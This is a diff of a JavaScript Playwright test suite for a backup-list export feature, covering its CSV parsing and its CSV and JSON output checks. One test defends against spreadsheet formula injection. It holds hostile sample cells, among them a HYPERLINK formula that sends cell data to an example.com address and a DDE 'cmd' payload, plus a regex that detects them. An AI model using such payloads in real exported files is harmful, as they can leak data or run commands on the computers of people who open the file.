@@ -16,25 +16,24 @@ const OWN = COLUMNS.slice(0, -3);
 /** RFC 4180, and nothing beside it: records end in CRLF, quotes stand around whole cells, and in them only doubled. */
 function readCsv(text) {
   const records = [[]];
+  const plain = /[^",\r\n]*/y;
   let at = 0;
   while (at < text.length) {
     let cell = '';
-    let isQuoted = false;
-    if (text[at] === '"') {
-      isQuoted = true;
-      for (at += 1; ; ) {
-        const end = text.indexOf('"', at);
+    const isQuoted = text[at] === '"';
+    if (isQuoted) {
+      const parts = [];
+      do {
+        const end = text.indexOf('"', at + 1);
         if (end < 0) throw new Error('a quote that is not closed');
-        cell += text.slice(at, end);
+        parts.push(text.slice(at + 1, end));
         at = end + 1;
-        if (text[at] !== '"') break;
-        cell += '"';
-        at += 1;
-      }
+      } while (text[at] === '"');
+      cell = parts.join('"');
     } else {
-      const [plain] = /^[^",\r\n]*/.exec(text.slice(at, at + 10_000));
-      cell = plain;
-      at += plain.length;
+      plain.lastIndex = at;
+      [cell] = plain.exec(text);
+      at += cell.length;
     }
     records.at(-1).push({ cell, isQuoted });
     if (text[at] === ',') at += 1;
@@ -65,16 +64,20 @@ function tableOf({ text }) {
   expect(text.startsWith('\ufeff')).toBe(true);
   const [head, ...records] = readCsv(text.slice(1));
   expect(head.map(({ cell }) => cell)).toEqual(COLUMNS);
-  return records.map((record) => {
-    expect(record).toHaveLength(COLUMNS.length);
-    return Object.fromEntries(record.map(({ cell, isQuoted }, place) => [COLUMNS[place], cell === '' && !isQuoted ? null : cell]));
-  });
+  expect(new Set(records.map((record) => record.length))).toEqual(new Set(records.length > 0 ? [COLUMNS.length] : []));
+  const value = ({ cell, isQuoted }) => (cell === '' && !isQuoted ? null : cell);
+  return records.map((record) => Object.fromEntries(record.map((read, place) => [COLUMNS[place], value(read)])));
 }
 
-/** A backup's fields as a file has them; times are moments. */
-function fields(row, name) {
-  const value = row[KEYS[name] ?? name] ?? null;
-  return TIMES.includes(name) ? moment(value) : value;
+/** What the service said of a backup, by a file's names. Times are moments. */
+function fields(row, names = OWN) {
+  const value = (name) => {
+    const given = row[KEYS[name] ?? name] ?? null;
+    // No metadata is no metadata, whether there is nothing or nothing in it.
+    if (name === 'metadata') return given && Object.keys(given).length > 0 ? given : null;
+    return TIMES.includes(name) ? (moment(given) ?? null) : given;
+  };
+  return Object.fromEntries(names.map((name) => [name, value(name)]));
 }
 
 const LEADS = /^[\s"\ufeff\0]*[=+\-@＝＋－＠]/;
@@ -84,35 +87,24 @@ const unguarded = (cell) => cell.replace(/(^|[;\r\n])'(?=[\s"\ufeff\0]*[=+\-@＝
 /** The CSV file has exactly these backups, each with all that the service said of it. */
 function expectCsv(file, backups, { extent, filters }) {
   const records = tableOf(file);
-  expect(records.map(({ id }) => id)).toEqual(backups.map(({ id }) => id));
-  for (const [place, record] of records.entries()) {
-    for (const name of OWN) {
-      const value = fields(backups[place], name);
-      const cell = record[name];
-      if (value === null || value === undefined) expect(cell, name).toBe(null);
-      else if (TIMES.includes(name)) expect(moment(cell), name).toBe(value);
-      else if (name === 'metadata') expect(JSON.parse(unguarded(cell))).toEqual(value);
-      else expect(unguarded(cell), name).toBe(String(value));
-    }
-    expect(record.extent).toBe(extent);
-    expect(record.filters && unguarded(record.filters)).toBe(filters);
-    expect(record.as_of).toBe(records[0].as_of);
-  }
+  const read = (name, cell) => {
+    if (cell === null) return null;
+    if (TIMES.includes(name)) return moment(cell);
+    return name === 'metadata' ? fields({ metadata: JSON.parse(unguarded(cell)) }, [name])[name] : unguarded(cell);
+  };
+  const text = (name, value) => (value === null || name === 'metadata' || TIMES.includes(name) ? value : String(value));
+  const each = (object, of) => Object.fromEntries(Object.entries(object).map(([name, value]) => [name, of(name, value)]));
+  const about = { as_of: records[0]?.as_of, extent, filters };
+  expect(records.map((record) => each(record, read))).toEqual(backups.map((row) => ({ ...each(fields(row), text), ...about })));
   return records;
 }
 
 function expectJson({ text }, backups, { extent, filters, project = PROJECT }) {
-  const { backups: read, ...about } = JSON.parse(text);
-  expect({ ...about, as_of: undefined }).toEqual({ project_id: project, filters, extent, count: backups.length, as_of: undefined });
-  expect(read.map(({ id }) => id)).toEqual(backups.map(({ id }) => id));
-  for (const [place, one] of read.entries()) {
-    expect(Object.keys(one)).toEqual(OWN.map((name) => KEYS[name] ?? name));
-    for (const name of OWN) {
-      const given = one[KEYS[name] ?? name];
-      expect(TIMES.includes(name) ? moment(given) : given, name).toEqual(fields(backups[place], name) ?? (TIMES.includes(name) ? undefined : null));
-    }
-  }
-  return about;
+  const { backups: read, as_of: at, ...about } = JSON.parse(text);
+  expect(about).toEqual({ project_id: project, filters, extent, count: backups.length });
+  expect(new Set(read.map((one) => Object.keys(one).join()))).toEqual(new Set(backups.length > 0 ? [OWN.map((name) => KEYS[name] ?? name).join()] : []));
+  expect(read.map((one) => fields(one))).toEqual(backups.map((row) => fields(row)));
+  return at;
 }
 
 const NAME = (rows, ending) => new RegExp(`^backups_\\d{8}T\\d{6}Z_${rows}-rows?\\.${ending}$`);
@@ -132,25 +124,19 @@ test('a page is saved as CSV and as JSON, as the service gave it', async ({ page
   await expect(page.getByRole('status').last()).toContainText(`Saved ${csv.name}.`);
   const json = await save(page, 'This page as JSON');
   expect(json.name).toMatch(NAME(20, 'json'));
-  expect(moment(expectJson(json, backups, about).as_of)).toBe(now);
+  expect(moment(expectJson(json, backups, about))).toBe(now);
   expect(asked.lists()).toEqual([]);
 });
 
 test('all that match are saved, whichever page is in sight, in its order', async ({ page, demo, asked }) => {
   await open(page, '?status=available&sort=name:desc&limit=10&page=3');
-  const found = await demo.all('status=available&sort=created_at:desc');
   const sorted = await demo.all('status=available&sort=name:desc');
   const csv = await save(page, 'All that match as CSV');
-  expect(csv.name).toMatch(NAME(found.length, 'csv'));
+  expect(csv.name).toMatch(NAME(sorted.length, 'csv'));
   await expect(extent(page)).toHaveCount(0);
-  const records = tableOf(csv);
-  // Equals stand in any order: the names are in the service's, and the backups are the service's.
-  expect(records.map(({ name }) => name && unguarded(name))).toEqual(sorted.map(({ name }) => name));
-  const place = new Map(records.map(({ id }, place) => [id, place]));
-  const inOrder = [...found].sort((a, b) => place.get(a.id) - place.get(b.id));
-  expectCsv(csv, inOrder, { extent: 'complete', filters: 'status:available' });
+  expectCsv(csv, sorted, { extent: 'complete', filters: 'status:available' });
   const before = asked.lists().length;
-  expectJson(await save(page, 'All that match as JSON'), inOrder, { extent: 'complete', filters: 'status:available' });
+  expectJson(await save(page, 'All that match as JSON'), sorted, { extent: 'complete', filters: 'status:available' });
   expect(asked.lists().length).toBe(before);
 });
 
@@ -167,29 +153,30 @@ test('what a search over the whole project found is saved as it stands', async (
   await expect(page.getByRole('button', { name: /as (CSV|JSON)$/ })).toHaveText(['All that match as CSV', 'All that match as JSON']);
 });
 
+test('the file of a page and the file of all say the same of a backup', async ({ page }) => {
+  await open(page, '?limit=10');
+  const read = ({ text }) => JSON.parse(text).backups;
+  const [some, all] = [read(await save(page, 'This page as JSON')), read(await save(page, 'All that match as JSON'))];
+  expect(some).toHaveLength(10);
+  expect(all.slice(0, 10)).toEqual(some);
+});
+
 test('no cell of a spreadsheet is run, and no text is lost', async ({ page, demo, add }) => {
   const hostile = [
     '=HYPERLINK("http://example.com/?"&A1,"x")', '+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', ' \u00a0=1', '＝1', '＋1', '－1', '＠1', 'a;=1;b',
-    'a\n=1', 'a\r\n+1', 'a;"=1"', "'=1", '"', '""', ',', 'plain', ' blanks ', 'ünï 💾', "nightly;=cmd|' /C calc'!A0",
+    'a\n=1', 'a\r\n+1', 'a;"=1"', '"', '""', ',', 'plain', ' blanks ', 'ünï 💾', "nightly;=cmd|' /C calc'!A0",
   ];
   for (const name of hostile) await add({ name, description: name, fail_reason: name, status: 'error', container: name, availability_zone: name });
   await open(page, '?limit=1000');
   const { backups } = await demo.list('limit=1000');
   for (const name of hostile) expect(backups.map((row) => row.name)).toContain(name);
   const csv = await save(page, 'This page as CSV');
-  const about = { extent: 'page 1', filters: null };
-  expect(tableOf(csv).map(({ name }) => name)).toContain("'=HYPERLINK(\"http://example.com/?\"&A1,\"x\")");
-  for (const record of readCsv(csv.text.slice(1))) {
-    for (const { cell } of record) {
-      expect(cell).not.toMatch(LEADS);
-      expect(cell).not.toMatch(/^[\t\r\n\0]/);
-      // Where lists are separated by semicolons, a spreadsheet cuts there and at line breaks, quotes or not.
-      for (const part of cell.split(/[;\r\n]/)) expect(part).not.toMatch(LEADS);
-    }
-  }
-  // An empty text is the whole project, which asks for nothing.
-  expectCsv({ ...csv, text: csv.text }, backups, { ...about, filters: tableOf(csv)[0].filters });
-  expect(tableOf(csv)[0].filters).toBe('');
+  expectCsv(csv, backups, { extent: 'page 1', filters: '' });
+  const cells = readCsv(csv.text.slice(1)).flat().map(({ cell }) => cell);
+  expect(cells).toContain("'=HYPERLINK(\"http://example.com/?\"&A1,\"x\")");
+  expect(cells.filter((cell) => LEADS.test(cell) || /^[\t\r\n\0]/.test(cell))).toEqual([]);
+  // Where lists are separated by semicolons, a spreadsheet cuts there and at line breaks, quotes or not.
+  expect(cells.filter((cell) => cell.split(/[;\r\n]/).some((part) => LEADS.test(part)))).toEqual([]);
   expectJson(await save(page, 'This page as JSON'), backups, { extent: 'page 1', filters: '' });
 });
 
@@ -227,7 +214,7 @@ test('thirty thousand backups are in one file', async ({ page, demo }) => {
   expect(read.extent).toBe('complete');
   expect(unlike(read.backups, backups)).toBe(-1);
   const csv = await save(page, 'All that match as CSV');
-  expect(unlike(readCsv(csv.text.slice(1)).slice(1).map(([id]) => ({ id: id.cell })), backups)).toBe(-1);
+  expect(unlike(tableOf(csv), backups)).toBe(-1);
 });
 
 /** Where two long lists of backups are not the same; -1 where they are. To show the difference would take minutes. */
